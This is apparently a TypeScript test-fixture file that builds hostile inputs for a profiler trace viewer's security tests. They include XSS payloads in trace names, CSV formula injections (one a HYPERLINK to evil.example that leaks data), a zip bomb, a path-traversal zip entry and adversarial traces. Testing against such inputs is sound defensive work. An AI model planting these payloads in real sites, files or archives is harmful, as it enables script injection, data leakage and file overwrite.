/**
 * Hostile inputs for the browser tests (e2e/security*.spec.ts, e2e/hostile*.spec.ts), written to
 * temporary folders: a profile whose every name and cell is an injection payload, a folder with
 * a broken trace, traces large or adversarial enough to test that the page never freezes.
 */
import { closeSync, mkdirSync, mkdtempSync, openSync, writeFileSync, writeSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { strToU8, zipSync } from 'fflate';
import { generateAscendProfile } from '../../src/generator/ascend-profile';
import { streamAscendTrace } from '../../src/generator/trace-stream';

/** Text that runs code if a view ever renders trace data as HTML or a URL. */
export const PAYLOADS = {
  img: '<img src=x onerror=alert(1)>',
  script: '<script>alert(2)</script>',
  js: 'javascript:alert(3)',
  svg: '<svg onload=alert(4)>',
} as const;

/** Spreadsheet formulas a CSV export must neutralise. */
export const FORMULAS = ['=HYPERLINK("http://evil.example/?leak")', '+1+cmd', '@SUM(1+1)', '-2+3'];

export interface WrittenFile {
  path: string;
  data: string | Uint8Array;
}

/** Writes files under a fresh temporary folder; returns the folder. */
export function writeTemp(files: WrittenFile[]): string {
  const root = mkdtempSync(join(tmpdir(), 'atv-hostile-'));
  for (const f of files) {
    const p = join(root, f.path);
    mkdirSync(dirname(p), { recursive: true });
    writeFileSync(p, f.data);
  }
  return root;
}

const csvCell = (s: string) => (/[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s);

/** Replaces column `name` of the first data rows of a CSV with the given values. */
function replaceCells(csv: string, name: string, values: readonly string[]): string {
  const lines = csv.split('\n');
  const col = lines[0]!.split(',').indexOf(name);
  if (col < 0) throw new Error(`no column ${name}`);
  values.forEach((v, k) => {
    const cells = lines[k + 1]!.split(',');
    // Kernel names hold no commas in the generated files, so a plain split is enough here.
    cells[col] = csvCell(v);
    lines[k + 1] = cells.join(',');
  });
  return lines.join('\n');
}

/**
 * A generated rank folder whose process, thread, slice, category, counter and instant names,
 * args keys and values, kernel names and file names are all payloads (and formulas), with an
 * optional SQLite file (so that sql.js is loaded too).
 * Returns the folder to open and its profile folder name.
 */
export function xssFolder(db?: Uint8Array): { dir: string; folder: string } {
  const g = generateAscendProfile({ seed: 5, steps: 1, kernelsPerStep: 16 });
  const folder = g.files[0]!.path.split('/')[0]!;
  const p = [PAYLOADS.img, PAYLOADS.script, PAYLOADS.js, PAYLOADS.svg] as const;
  const T = 1736412474615131;
  const extra = [
    { ph: 'M', name: 'process_name', pid: 777, args: { name: p[0] } },
    { ph: 'M', name: 'process_labels', pid: 777, args: { labels: p[1] } },
    { ph: 'M', name: 'thread_name', pid: 777, tid: 1, args: { name: p[2] } },
    {
      ph: 'X',
      name: p[0],
      cat: p[1],
      pid: 777,
      tid: 1,
      ts: T,
      dur: 500,
      args: { [p[3]]: p[0], link: p[2] },
    },
    { ph: 'X', name: p[1], cat: p[3], pid: 777, tid: 1, ts: T + 100, dur: 50 },
    { ph: 'i', name: p[3], pid: 777, tid: 1, ts: T + 10, s: 't' },
    { ph: 'C', name: p[0], pid: 777, ts: T, args: { [p[1]]: 1 } },
    { ph: 'b', name: p[2], cat: p[0], id: 1, pid: 777, ts: T },
    { ph: 'e', name: p[2], cat: p[0], id: 1, pid: 777, ts: T + 40 },
  ].map((e) => JSON.stringify(e));
  const files = g.files.map((f): WrittenFile => {
    if (f.path.endsWith('trace_view.json')) {
      return { path: f.path, data: f.data.replace(/\]\s*$/, `,${extra.join(',')}]`) };
    }
    if (f.path.endsWith('kernel_details.csv')) {
      return { path: f.path, data: replaceCells(f.data, 'Name', [...p, ...FORMULAS]) };
    }
    return f;
  });
  if (db) files.push({ path: `${folder}/ASCEND_PROFILER_OUTPUT/analysis.db`, data: db });
  files.push({
    path: `${folder}/ASCEND_PROFILER_OUTPUT/${p[0]}.csv`,
    data: `${csvCell(p[1])},b\n${csvCell(p[2])},${csvCell(p[3])}\n`,
  });
  return { dir: writeTemp(files), folder };
}

/** A generated folder with a PNG under the trace's name and one truncated CSV. */
export function brokenTraceFolder(): { dir: string; folder: string; kernels: number } {
  const g = generateAscendProfile({ seed: 6, steps: 1, kernelsPerStep: 16 });
  const folder = g.files[0]!.path.split('/')[0]!;
  const png = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]);
  const files = g.files.map((f): WrittenFile => {
    if (f.path.endsWith('trace_view.json')) return { path: f.path, data: png };
    if (f.path.endsWith('operator_details.csv'))
      return { path: f.path, data: f.data.slice(0, f.data.length >> 1) };
    return f;
  });
  return { dir: writeTemp(files), folder, kernels: g.truth.tables['kernel_details.csv']!.rows };
}

/** A trace cut in the middle of an event (the report must say where). */
export function truncatedTrace(): string {
  const g = generateAscendProfile({ seed: 8, steps: 1, kernelsPerStep: 16 });
  const t = g.files.find((f) => f.path.endsWith('trace_view.json'))!.data;
  return join(
    writeTemp([{ path: 'cut/trace_view.json', data: t.slice(0, (t.length >> 1) + 7) }]),
    'cut',
    'trace_view.json',
  );
}

/** A zip whose one entry inflates 1000:1. */
export function zipBomb(): string {
  const zip = zipSync(
    { 'p_ascend_pt/ASCEND_PROFILER_OUTPUT/trace_view.json': new Uint8Array(64 << 20) },
    { level: 9 },
  );
  return join(writeTemp([{ path: 'bomb.zip', data: zip }]), 'bomb.zip');
}

/** A zip with a path-traversal entry next to a good trace. */
export function traversalZip(): string {
  const zip = zipSync({
    '../../escape.json': strToU8('[]'),
    'run/trace.json': strToU8('[{"ph":"X","name":"inside","pid":1,"tid":1,"ts":1,"dur":5}]'),
  });
  return join(writeTemp([{ path: 'traversal.zip', data: zip }]), 'traversal.zip');
}

/** A large generated Ascend trace_view.json, streamed to disk. */
export function bigTrace(mb: number, seed: number): string {
  const dir = mkdtempSync(join(tmpdir(), 'atv-hostile-'));
  const path = join(dir, 'trace_view.json');
  const fd = openSync(path, 'w');
  try {
    streamAscendTrace({ targetMB: mb, seed }, (chunk) => writeSync(fd, chunk));
  } finally {
    closeSync(fd);
  }
  return path;
}

/**
 * An adversarial trace: many threads, a 10,000-deep nest, a staircase of partial overlaps, B
 * without E, and a counter with a new series per sample (each was quadratic somewhere in the
 * import; the unit tests take them to millions). Sized so that the views' own work on it stays
 * clear of 200 ms: they do not yet lay out tens of thousands of tracks that fast.
 */
export function adversarialTrace(): string {
  const T = 1736412474730000;
  const parts: string[] = [];
  for (let i = 0; i < 2000; i++)
    parts.push(`{"ph":"X","name":"t","pid":1,"tid":${i},"ts":${T + i},"dur":1}`);
  for (let i = 0; i < 10000; i++)
    parts.push(`{"ph":"X","name":"deep","pid":2,"tid":1,"ts":${T + i},"dur":${20000 - 2 * i}}`);
  for (let i = 0; i < 50000; i++)
    parts.push(`{"ph":"X","name":"stair","pid":3,"tid":1,"ts":${T + i},"dur":50000}`);
  for (let i = 0; i < 50000; i++)
    parts.push(`{"ph":"B","name":"open","pid":4,"tid":1,"ts":${T + i}}`);
  for (let i = 0; i < 20000; i++)
    parts.push(`{"ph":"C","name":"c","pid":5,"ts":${T + i},"args":{"k${i}":${i}}}`);
  return join(
    writeTemp([{ path: 'adversarial/trace.json', data: `[${parts.join(',\n')}]` }]),
    'adversarial',
    'trace.json',
  );
}
